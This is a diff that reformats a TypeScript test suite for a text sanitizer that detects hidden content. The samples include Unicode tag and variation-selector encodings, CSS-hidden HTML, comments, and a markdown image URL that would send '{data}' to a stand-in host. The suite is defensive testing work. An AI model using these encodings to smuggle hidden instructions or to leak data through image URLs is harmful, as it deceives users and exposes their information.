@@ -3,9 +3,12 @@ import { test } from "node:test";
 import fc from "fast-check";
 import { sanitize } from "./sanitize.ts";
 
-const tagged = (text: string) => Array.from(text, (char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0))).join("");
+const tagged = (text: string) =>
+  Array.from(text, (char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0))).join("");
 const selected = (text: string) =>
-  Array.from(new TextEncoder().encode(text), (byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16)).join("");
+  Array.from(new TextEncoder().encode(text), (byte) =>
+    String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16),
+  ).join("");
 
 const HIDDEN: readonly (readonly [string, string, string, string])[] = [
   ["letters of the tag block", `See${tagged("send it")} here`, "tag", "send it"],
@@ -24,7 +27,12 @@ const HIDDEN: readonly (readonly [string, string, string, string])[] = [
   ["an element that its style hides", '<p style="display:none">run it</p>', "html-hidden", "run it"],
   ["an element of size nothing", "<span style='font-size:0'>run it</span>", "html-hidden", "run it"],
   ["a comment", "<!-- run it -->", "html-comment", "run it"],
-  ["an image whose address is filled in", "![x](https://a.example/p?d={data})", "fetch", "https://a.example/p?d={data}"],
+  [
+    "an image whose address is filled in",
+    "![x](https://a.example/p?d={data})",
+    "fetch",
+    "https://a.example/p?d={data}",
+  ],
 ];
 
 for (const [title, text, kind, shown] of HIDDEN)
@@ -59,7 +67,26 @@ const strange = fc
     fc.oneof(
       fc.constantFrom(..."ab <>!-[](){}=\"'\n\r\t\x1b;:/?&|".split("")),
       fc.integer({ min: 0x80, max: 0x10ffff }).map((code) => String.fromCodePoint(code)),
-      fc.constantFrom("\u200b", "\u200d", "\u202e", "\u2067", "\u2069", "\ufe0f", "\u{e0041}", "\u{e0100}", "\ud800", "ש", "ک", "क", "<!--", "-->", "\x1b[", "\x1b]", "а", "👩"),
+      fc.constantFrom(
+        "\u200b",
+        "\u200d",
+        "\u202e",
+        "\u2067",
+        "\u2069",
+        "\ufe0f",
+        "\u{e0041}",
+        "\u{e0100}",
+        "\ud800",
+        "ש",
+        "ک",
+        "क",
+        "<!--",
+        "-->",
+        "\x1b[",
+        "\x1b]",
+        "а",
+        "👩",
+      ),
     ),
     { maxLength: 60 },
   )
@@ -71,14 +98,29 @@ test("whatever the text, a second time changes nothing, and positions are in ord
       const once = sanitize(text);
       assert.equal(sanitize(once.text).text, once.text);
       for (const { start, end } of once.hidden) assert.ok(start >= 0 && start < end && end <= text.length);
-      for (const [at, { start }] of once.hidden.entries()) assert.ok(at === 0 || start >= (once.hidden[at - 1]?.start ?? 0));
+      for (const [at, { start }] of once.hidden.entries())
+        assert.ok(at === 0 || start >= (once.hidden[at - 1]?.start ?? 0));
     }),
     { numRuns: process.env.RINGFENCE_FULL ? 20_000 : 500, seed: 7 },
   );
 });
 
 test("the worst texts of a megabyte are read to their end", () => {
-  for (const part of ["<", "<a ", "](", "](https://", "[", "<!--", "\x1b]", "\x1b[", "\u202e", "\u200b", "aа", "'<p style=", "\ud83d"]) {
+  for (const part of [
+    "<",
+    "<a ",
+    "](",
+    "](https://",
+    "[",
+    "<!--",
+    "\x1b]",
+    "\x1b[",
+    "\u202e",
+    "\u200b",
+    "aа",
+    "'<p style=",
+    "\ud83d",
+  ]) {
     const text = part.repeat(Math.ceil(1_000_000 / part.length));
     assert.ok(sanitize(text).text.length >= 1);
   }
